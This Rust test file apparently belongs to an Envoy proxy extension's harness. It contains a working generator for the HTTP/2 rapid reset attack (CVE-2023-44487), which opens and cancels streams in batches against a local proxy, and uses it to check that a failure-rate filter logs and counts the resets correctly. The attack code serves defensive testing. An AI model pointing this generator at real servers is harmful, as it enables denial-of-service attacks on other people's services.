//! HTTP/2 rapid reset (CVE-2023-44487): streams that their client opens and resets at once, as many as it likes.

use std::collections::BTreeMap;
use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::time::Duration;

use anyhow::{Context as _, Result, ensure};
use serde_json::{Value, json};

use crate::harness::envoy::Envoy;
use crate::harness::envoy::config::{Listener, Proxy, Roles};
use crate::harness::envoy::parts::{all_to, cluster};
use crate::harness::peers::{Habit, Server};
use crate::harness::process::wait_for;
use crate::harness::tools;

/// Envoy (1.40) ends a connection after 250 of them: an attacker takes another.
const STREAMS: usize = 200;

/// Failures a second that are reported in full, for each worker (`src/filter/failure_rate.rs`).
const IN_FULL: usize = 1_000;

/// `GET / HTTP/2` to `a`, in HPACK's static table but for the host.
const HEADERS: &[u8] = &[0x82, 0x86, 0x84, 0x01, 1, b'a'];

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Opens and resets streams. When it returns the proxy has seen them all.
pub fn attack(port: u16, streams: usize) -> Result<()> {
    for begin in (0..streams).step_by(STREAMS) {
        let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
        bytes.extend(frame(4, 0, 0, &[]));
        for number in 0..STREAMS.min(streams - begin) {
            let stream = u32::try_from(2 * number + 1)?;
            bytes.extend(frame(1, 0x5, stream, HEADERS));
            // CANCEL.
            bytes.extend(frame(3, 0, stream, &8_u32.to_be_bytes()));
        }
        const PING: &[u8] = b"all seen";
        bytes.extend(frame(6, 0, 0, PING));
        let mut connection = TcpStream::connect(("127.0.0.1", port))?;
        connection.set_read_timeout(Some(Duration::from_secs(10)))?;
        connection.write_all(&bytes)?;
        let (mut answer, mut buffer) = (Vec::new(), [0; 4096]);
        while !answer.windows(PING.len()).any(|part| part == PING) {
            let size = connection.read(&mut buffer)?;
            ensure!(size > 0, "the proxy ended the connection before it had seen all");
            answer.extend_from_slice(&buffer[..size]);
        }
    }
    Ok(())
}

/// Resets at once: each is counted and marked, few are reported in full, and the next request is as any other.
pub fn check(streams: usize) -> Result<()> {
    let folder = tempfile::tempdir()?;
    let backend = Server::Made(Habit::NeverAnswer).start(folder.path(), folder.path())?;
    let proxy = Proxy::new([Listener::http("http", all_to("backend"))], [cluster("backend", "backend")]);
    let bootstrap = proxy.roles(Roles::all()).bootstrap(&tools::module()?.display().to_string());
    let text = bootstrap.to_string().replace("{server:backend}", &backend.port.to_string());
    let mut envoy = Envoy::start(&serde_json::from_str(&text)?)?;
    let began = std::time::Instant::now();
    attack(envoy.port("http")?, streams)?;
    let seconds = usize::try_from(began.elapsed().as_secs())? + 2;
    let lines = wait_for("the access log", || {
        let lines = envoy.log("http.log")?;
        Ok((lines.len() >= streams).then_some(lines))
    })?;
    ensure!(lines.len() == streams, "{} lines", lines.len());
    // No stream is counted twice: the access logger knows each by its mark.
    let samples = envoy.meshwhy_samples()?;
    let failures = samples.iter().filter(|s| s.name == "meshwhy_failures_total");
    let counted: BTreeMap<_, _> = failures
        .map(|s| (["cause", "side", "confidence"].map(|label| s.labels[label].as_str()), s.value as usize))
        .collect();
    ensure!(counted.values().sum::<usize>() == streams, "{counted:?} of {streams}");
    let named = |line: &&Value| line["cause"] == "client_disconnected";
    ensure!(lines.iter().all(|line| named(&line)), "a line without its cause");
    let full = lines.iter().filter(|line| !line["evidence"].is_null()).count();
    ensure!(full >= IN_FULL.min(streams) / 2, "only {full} of {streams} are reported in full");
    ensure!(full <= seconds * IN_FULL, "{full} of {streams} are reported in full in {seconds} s");
    // Those that were read in full are certain.
    let of = |confidence| counted.get(&["client_disconnected", "downstream", confidence]).copied();
    ensure!(
        counted.len() == 2 && of("certain") == Some(full) && of("likely") == Some(streams - full),
        "{full} in full: {counted:?}"
    );
    let other = lines.iter().find(|line| line["evidence"].is_null()).context("all are reported in full")?;
    ensure!(other["meshwhy"].is_null() && other["side"].is_null(), "{other}");
    // A second later it is over.
    std::thread::sleep(Duration::from_millis(1_100));
    attack(envoy.port("http")?, 1)?;
    let last = wait_for("the last line", || Ok(envoy.log("http.log")?.get(streams).cloned()))?;
    ensure!(last["confidence"] == json!("certain") && !last["evidence"].is_null(), "{last}");
    envoy.check_health()
}
